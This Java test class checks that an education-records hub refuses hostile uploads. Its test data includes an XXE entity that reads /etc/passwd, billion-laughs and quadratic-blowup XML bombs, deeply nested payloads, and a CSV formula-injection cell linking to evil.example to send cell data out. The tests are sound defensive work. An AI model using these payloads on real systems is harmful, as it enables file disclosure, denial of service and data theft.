package org.lerhub.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.lerhub.demo.DemoDataGenerator;
import tools.jackson.databind.JsonNode;

/** Hostile and malformed input is refused with a reason, kept as a dead letter, and the hub stays healthy. */
class HostileInputTest extends HubTest {

    private static final String TRANSCRIPT = "pesc-college-transcript";
    private static final String WORKDAY_CSV = "text/csv; profile=workday-worker-history";
    private static final String WORKDAY_HEADER = "Employee ID,Legal Name - First Name,Legal Name - Last Name,"
            + "Email - Primary Work,Company,Business Title,Job Profile,Position Start Date,Position End Date,"
            + "Is Current Position,Location,Worker Type,Time Type,Total Base Pay - Amount,Total Base Pay - Currency,"
            + "Total Base Pay - Frequency,Skills\n";

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("external entity", TRANSCRIPT, "application/xml", utf8("<?xml version=\"1.0\"?>\n"
                        + "<!DOCTYPE CollegeTranscript [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                        + "<CollegeTranscript><Student><Person><Name><FirstName>&xxe;</FirstName></Name></Person>"
                        + "</Student></CollegeTranscript>")),
                Arguments.of("billion laughs", TRANSCRIPT, "application/xml", billionLaughs()),
                Arguments.of("quadratic blow-up", TRANSCRIPT, "application/xml", quadraticBlowUp()),
                Arguments.of("50 MB of nesting", TRANSCRIPT, "application/xml", deepNesting(50 * 1024 * 1024)),
                Arguments.of("malformed", TRANSCRIPT, "application/xml",
                        utf8("<CollegeTranscript><Student></CollegeTranscript>")),
                Arguments.of("truncated transcript", TRANSCRIPT, "application/xml",
                        Arrays.copyOf(transcript(), transcript().length / 2)),
                Arguments.of("invalid UTF-8", TRANSCRIPT, "application/xml",
                        withRawBytes(transcript(), "<FirstName>", (byte) 0xC3, (byte) 0x28)),
                Arguments.of("Latin-1 bytes, UTF-8 declared", TRANSCRIPT, "application/xml",
                        withRawBytes(transcript(), "<FirstName>", (byte) 'J', (byte) 'o', (byte) 's', (byte) 0xE9)),
                Arguments.of("UTF-16 declared, UTF-8 bytes", TRANSCRIPT, "application/xml",
                        utf8(new String(transcript(), StandardCharsets.UTF_8)
                                .replaceFirst("encoding=\"UTF-8\"", "encoding=\"UTF-16\""))),
                Arguments.of("UTF-8 and Windows-1252 mixed", "ob3", "application/json", withRawBytes(
                        TestBadges.badge("mixed@example.org", "Soldadura básica", "mixed"), "Soldadura básica",
                        (byte) ' ', (byte) 0x93, (byte) 'I', (byte) 0x94)),
                Arguments.of("UTF-16 byte-order mark, UTF-8 bytes", "ob3", "application/json",
                        withBom(TestBadges.badge("bom@example.org", "Welding I", "bom"))),
                Arguments.of("Latin-1 bytes in a UTF-8 CSV", "hr-csv", WORKDAY_CSV, withRawBytes(
                        utf8(WORKDAY_HEADER + "90002,Jose,Munoz,jose.munoz@example.org,Acme,Welder,W,2024-01-01,,Yes,"
                                + "Akron,Employee,Full time,,,,Welding\n"), "90002,Jos", (byte) 0xE9)),
                Arguments.of("JSON with duplicate keys", "ob3", "application/json", utf8(new String(
                        TestBadges.badge("dup@example.org", "Welding I", "dup"), StandardCharsets.UTF_8)
                        .replaceFirst("\\{", "{\"name\":\"Shadowed\",\"name\":\"Other\","))),
                Arguments.of("truncated badge", "ob3", "application/json", Arrays.copyOf(
                        TestBadges.badge("cut@example.org", "Welding I", "cut"), 60)),
                Arguments.of("deeply nested JSON", "ob3", "application/json",
                        utf8("[".repeat(100_000) + "]".repeat(100_000))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void isRejectedWithAReasonAndKeptAsADeadLetter(String name, String format, String mediaType, byte[] content) {
        HubClient.Response response = hub().post("tn-admin", "/api/v1/documents?format=" + format, mediaType, content);

        assertThat(response.status()).as(response.text()).isEqualTo(422);
        assertThat(response.contentType()).startsWith("application/problem+json");
        JsonNode problem = response.json();
        assertThat(problem.path("detail").asString()).isNotBlank().doesNotContain("root:");
        String documentId = problem.path("documentId").asString();
        assertThat(documentId).isNotBlank();

        JsonNode document = hub().get("tn-admin", "/api/v1/documents/" + documentId).json();
        assertThat(document.path("status").asString()).isEqualTo("DEAD_LETTER");
        assertThat(document.path("reason").asString()).isEqualTo(problem.path("detail").asString());
        assertThat(hub().get("tn-admin", "/api/v1/documents/" + documentId + "/original").body()).isEqualTo(content);

        HubClient.Response health = hub().get(null, "/actuator/health");
        assertThat(health.json().path("status").asString()).isEqualTo("UP");
        Runtime runtime = Runtime.getRuntime();
        System.out.printf("HostileInputTest %s: heap in use %d MiB of %d MiB%n", name,
                (runtime.totalMemory() - runtime.freeMemory()) >> 20, runtime.maxMemory() >> 20);
    }

    @ParameterizedTest(name = "declared length: {0}")
    @ValueSource(booleans = {true, false})
    void aHundredMegabyteBodyIsRefusedWithoutBeingKept(boolean declaredLength) throws Exception {
        long limit = 64L << 20;
        int deadLettersBefore = hub().get("tn-admin", "/api/v1/dead-letters").json().size();

        HugeUpload upload = HugeUpload.send(port, "tn-admin", 100L << 20, declaredLength);

        assertThat(upload.answer()).startsWith("HTTP/1.1 413").contains("application/problem+json");
        if (declaredLength) {
            assertThat(upload.answer()).contains("the document is " + (100L << 20) + " bytes; this hub accepts at most "
                    + limit + " bytes per document (ler.ingest.max-document-size)");
            assertThat(upload.bytesSent()).as("refused before it was read").isLessThan(limit);
        } else {
            assertThat(upload.answer()).contains("the document is larger than " + limit + " bytes");
        }
        assertThat(hub().get("tn-admin", "/api/v1/dead-letters").json().size()).as("nothing kept")
                .isEqualTo(deadLettersBefore);
        assertThat(hub().get(null, "/actuator/health").json().path("status").asString()).isEqualTo("UP");
        Runtime runtime = Runtime.getRuntime();
        System.out.printf("HostileInputTest 100 MB body (declared length %s): %d MiB sent when refused; heap in use"
                + " %d MiB of %d MiB%n", declaredLength, upload.bytesSent() >> 20,
                (runtime.totalMemory() - runtime.freeMemory()) >> 20, runtime.maxMemory() >> 20);
    }

    /**
     * The hub stores what sources send: spreadsheet formulas in CSV cells are kept verbatim in records and exports,
     * which are JSON. The hub writes no CSV, so there is nothing to neutralise; the API offers no CSV answer (a CSV
     * export added later must prefix cells starting with = + - @ tab or carriage return with an apostrophe).
     */
    @Test
    void formulasInCsvCellsAreKeptAsTextAndNoAnswerIsCsv() {
        String title = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
        String csv = WORKDAY_HEADER + "90001,Alice,Thompson,alice@example.org,+SUM(1;1),\"" + title.replace("\"", "\"\"")
                + "\",@SUM(A1),2024-01-01,,Yes,-2+3,Employee,Full time,,,,=1+1;@cmd\n";

        HubClient.Response created = hub().post("tn-admin", "/api/v1/documents?format=hr-csv", WORKDAY_CSV, utf8(csv));

        assertThat(created.status()).as(created.text()).isEqualTo(201);
        JsonNode record = hub().get("alice", "/api/v1/records/" + created.json().at("/recordIds/0").asString()).json();
        assertThat(record.path("title").asString()).isEqualTo(title);
        assertThat(record.at("/employment/employer/name").asString()).isEqualTo("+SUM(1;1)");
        assertThat(record.at("/employment/location").asString()).isEqualTo("-2+3");
        List<String> skills = new ArrayList<>();
        record.path("skills").forEach(skill -> skills.add(skill.path("label").asString()));
        assertThat(skills).containsExactly("=1+1", "@cmd");
        HubClient.Response export = hub().get("alice", "/api/v1/me/export?format=ler-rs");
        assertThat(export.contentType()).startsWith("application/json");
        assertThat(export.text()).contains(HubClient.JSON.writeValueAsString(title));

        List<String> answerTypes = new ArrayList<>();
        hub().get(null, "/v3/api-docs").json().path("paths").forEach(path -> path.forEach(operation ->
                operation.path("responses").forEach(answer -> answer.path("content").propertyNames()
                        .forEach(answerTypes::add))));
        assertThat(answerTypes).isNotEmpty().noneMatch(type -> type.contains("csv"));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A real transcript of the demo generator: Alice's. */
    private static byte[] transcript() {
        return new DemoDataGenerator(1).documents(1).findFirst().orElseThrow().content();
    }

    /** The UTF-8 content with raw bytes (of another encoding, or none) inserted after the first {@code marker}. */
    private static byte[] withRawBytes(byte[] content, String marker, byte... raw) {
        String text = new String(content, StandardCharsets.UTF_8);
        int at = text.indexOf(marker) + marker.length();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(text.substring(0, at)));
        out.writeBytes(raw);
        out.writeBytes(utf8(text.substring(at)));
        return out.toByteArray();
    }

    private static byte[] withBom(byte[] utf8) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0xFE, (byte) 0xFF});
        out.writeBytes(utf8);
        return out.toByteArray();
    }

    /** One 100 kB entity referenced 10,000 times: a gigabyte once expanded, without nested entities. */
    private static byte[] quadraticBlowUp() {
        String entity = "x".repeat(100_000);
        return utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE CollegeTranscript [<!ENTITY a \"" + entity + "\">]>\n"
                + "<CollegeTranscript><Student>" + "&a;".repeat(10_000) + "</Student></CollegeTranscript>");
    }

    private static byte[] billionLaughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        xml.append(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
        for (int i = 2; i <= 9; i++) {
            xml.append(" <!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        xml.append("]>\n<CollegeTranscript><Student>&lol9;</Student></CollegeTranscript>");
        return xml.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] deepNesting(int size) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(size);
        byte[] open = "<a>".getBytes(StandardCharsets.UTF_8);
        out.writeBytes("<CollegeTranscript>".getBytes(StandardCharsets.UTF_8));
        while (out.size() + open.length <= size) {
            out.writeBytes(open);
        }
        return out.toByteArray();
    }
}
